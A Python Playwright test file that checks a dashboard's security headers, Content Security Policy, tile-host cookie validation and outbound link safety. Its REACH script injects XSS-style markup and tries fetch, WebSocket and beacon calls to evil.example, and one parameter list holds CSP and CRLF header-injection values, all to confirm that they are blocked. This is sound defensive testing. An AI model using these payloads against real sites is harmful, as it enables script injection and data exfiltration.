"""Threat: text that gets into a page as markup, or a page that frames ours, reaches for scripts or other hosts."""

import re
from pathlib import Path
from urllib.parse import quote

import pytest
from playwright.sync_api import Page, expect
from shown import map_frame
from warm_browser import WarmBrowser

from geo.ui.ground import tiles_origin
from geo.ui.headers import guarded, is_for_good, policy
from tests.browser.test_browser_dashboard import ARTICLES
from tests.security.test_security_strangers import PATHS, asked

pytestmark = pytest.mark.browser

TOP = Path(__file__).resolve().parents[2]
REACH = """async () => {
  const refused = [], note = (event) => refused.push(event.effectiveDirective);
  document.addEventListener("securitypolicyviolation", note);
  window.ran = [];
  const box = document.body.appendChild(document.createElement("div"));
  box.innerHTML = "<img src='x' onerror=\\"ran.push('handler')\\"><svg onload=\\"ran.push('svg')\\"></svg>"
    + "<a href=\\"javascript:ran.push('address')\\">x</a><iframe src='https://evil.example/'></iframe>"
    + "<object data='https://evil.example/'></object><img src='https://evil.example/p.png'>";
  box.querySelector("a").click();
  const script = document.createElement("script");
  script.src = "https://evil.example/x.js";
  box.append(script);
  const inline = document.createElement("script");
  inline.textContent = "ran.push('inline')";
  box.append(inline);
  setTimeout("ran.push('eval')");
  const asked = await fetch("https://evil.example/").then(() => "answered", () => "refused");
  try { new WebSocket("wss://evil.example/"); } catch {}
  navigator.sendBeacon("https://evil.example/", "x");
  await new Promise((done) => setTimeout(done, 1000));
  box.remove();
  return { ran: window.ran, asked, refused: [...new Set(refused)] };
}"""


@pytest.fixture(scope="module")
def address(serve, tmp_path_factory: pytest.TempPathFactory) -> str:
    folder = tmp_path_factory.mktemp("answers")
    for name, text in ARTICLES.items():
        (folder / name).write_text(text, encoding="utf-8")
    return serve(folder)


@pytest.fixture
def page(browser: WarmBrowser, address: str):
    context = browser.new_context(viewport={"width": 1440, "height": 900}, base_url=address)
    yield context.new_page()
    context.close()


def note_what_leaves(page: Page, out: list[str]) -> None:
    """Writes down what was asked of other hosts, unless the page's policy held it back."""
    page.on("request", lambda asked: out.append(asked.url) if "evil.example" in asked.url else None)
    page.on("requestfailed", lambda asked: out.remove(asked.url) if asked.failure == "csp" else None)


@pytest.mark.parametrize("path", PATHS)
def test_every_answer_says_what_browsers_are_to_refuse(address: str, path: str) -> None:
    port = int(address.rpartition(":")[2])
    for host in ("127.0.0.1", "evil.example"):
        _, head, _ = asked(port, path, host)
        assert "\r\nx-content-type-options: nosniff" in head
        assert "\r\nreferrer-policy: no-referrer" in head
        assert "\r\nx-frame-options: sameorigin" in head
        assert head.count("\r\ncontent-security-policy: ") == 1
        assert "frame-ancestors 'self'" in head
        assert "public" not in (re.search(r"\r\ncache-control: (.*)", head) or ["", ""])[1]


def test_browsers_keep_our_scripts_and_ask_anew_for_what_articles_gave() -> None:
    ours = "/component/geo.ui.assets."
    assert is_for_good(f"{ours}scripts_0123456789ab/page.js", b"")
    assert is_for_good(f"{ours}map_scripts/map.js", b"v=0123456789ab")
    assert is_for_good(f"/base{ours}map_data/basemap.bin.gz", b"v=0123456789ab")
    for path, query in [
        ("map_scripts/map.js", b""),
        ("map_project/a.json.gz", b"v=0123456789ab"),
        ("map_data/", b"v=1"),
    ]:
        assert not is_for_good(ours + path, query)
    kept = dict(guarded([(b"Cache-Control", b"no-store")], f"{ours}scripts_0123456789ab/page.js", for_good=True))
    assert kept[b"cache-control"].startswith(b"private, ")
    assert b"Cache-Control" not in kept


@pytest.mark.parametrize("path", ["/", "/articles", "/_stcore/health", "/component/streamlit_folium.st_folium/"])
def test_scripts_come_from_this_server_alone(path: str) -> None:
    rules = dict(rule.split(" ", 1) for rule in policy(path).decode().split("; "))
    assert not re.search(r"https?:|\*|data:", rules["script-src"])
    assert ("unsafe" in rules["script-src"]) == path.startswith("/component/streamlit_folium")
    assert rules["default-src"] == "'self'"
    assert rules["object-src"] == rules["base-uri"] == "'none'"


MAP = "/component/streamlit_folium.st_folium/index.html"


def pictures_from(path: str, cookie: str) -> set[str]:
    """The hosts that the answer at a path lets be asked for pictures, when that cookie comes along."""
    tiles = tiles_origin([(b"cookie", f"other=1; {cookie}".encode())])
    rules = dict(rule.split(" ", 1) for rule in policy(path, tiles=tiles).decode().split("; "))
    return set(rules["img-src"].split()) - {"'self'", "data:", "blob:"}


def test_tiles_come_from_nowhere_until_a_host_is_chosen_and_then_from_it_alone() -> None:
    assert pictures_from(MAP, "") == set()
    assert pictures_from(MAP, "dateline-ground=https%3A%2F%2Ftile.example.org") == {"https://tile.example.org"}
    assert pictures_from(MAP, "dateline-ground=http%3A%2F%2F127.0.0.1%3A8080") == {"http://127.0.0.1:8080"}
    for path in ("/", "/articles", "/component/other"):
        assert pictures_from(path, "dateline-ground=https%3A%2F%2Ftile.example.org") == set()


@pytest.mark.parametrize(
    "value",
    [
        "https://*.example.org", "https:", "*", "https://a.org https://b.org", "https://a.org;script-src *", "data:",
        "https://a.org/path", "https://user@a.org", "ftp://a.org", "https://a.org:port", "https://", "'unsafe-inline'",
        "https://" + "a" * 300, "https://a.org\r\nx: y",
    ],
)  # fmt: skip
def test_a_cookie_that_names_no_single_host_opens_nothing(value: str) -> None:
    assert pictures_from(MAP, f"dateline-ground={quote(value, safe='')}") == set()


@pytest.mark.parametrize("path", ["/", "/articles", "/places", "/about"])
def test_markup_in_a_page_runs_nothing_and_reaches_nobody(page: Page, path: str) -> None:
    """Were a text ever taken for markup, the browser itself would still refuse what it says."""
    out: list[str] = []
    note_what_leaves(page, out)
    page.goto(path)
    page.get_by_role("banner").or_(page.locator(".st-key-dl-head")).first.wait_for()
    got = page.evaluate(REACH)
    assert got["ran"] == []
    assert got["asked"] == "refused"
    assert {"script-src-attr", "script-src-elem", "connect-src", "img-src", "frame-src", "object-src"} <= set(
        got["refused"]
    )
    assert out == []


def test_the_maps_frame_reaches_nobody(page: Page) -> None:
    out: list[str] = []
    note_what_leaves(page, out)
    page.goto("/")
    frame = map_frame(page)
    got = frame.evaluate(REACH)
    assert got["asked"] == "refused"
    assert {"script-src-elem", "connect-src", "img-src", "frame-src", "object-src"} <= set(got["refused"])
    assert out == []


def test_links_out_tell_nothing(page: Page) -> None:
    page.goto("/")
    map_frame(page)
    page.get_by_role("list", name="Places in view").get_by_role("button", name="Tirana").click()
    page.get_by_role("region", name="Source text").wait_for()
    for path in (None, "/articles", "/about"):
        if path:
            page.goto(path)
            page.wait_for_load_state("networkidle")
        links = page.locator("a[href^='http']:not([href*='127.0.0.1'])")
        links.first.wait_for()
        for link in links.all():
            assert set((link.get_attribute("rel") or "").split()) >= {"noopener", "noreferrer"}, link.get_attribute(
                "href"
            )
            assert re.match(r"https?://", link.get_attribute("href"))


def test_the_first_link_out_says_once_what_it_tells_a_stranger(page: Page) -> None:
    page.context.route("https://**", lambda route: route.fulfill(body="a page", content_type="text/html"))
    page.goto("/")
    map_frame(page)
    page.get_by_role("list", name="Places in view").get_by_role("button", name="Tirana").click()
    link, notice = page.get_by_role("link", name="Open at the publisher"), page.get_by_role("dialog")
    for button in ("left", "middle"):
        link.click(button=button)
        expect(notice).to_contain_text("sees your network address, the time, and the page that you open")
        notice.get_by_role("button", name="Stay here").click()
        expect(notice).to_have_count(0)
    link.click()
    with page.expect_popup():
        notice.get_by_role("button", name="Open the page").click()
    with page.expect_popup():  # and from then on it is not said again
        link.click()
    expect(notice).to_have_count(0)
    page.goto("/articles")
    with page.expect_popup() as opened:
        page.locator("a[target=_blank][href^='https://']").first.click()
    assert opened.value.evaluate("document.referrer + (window.opener === null)") == "true"
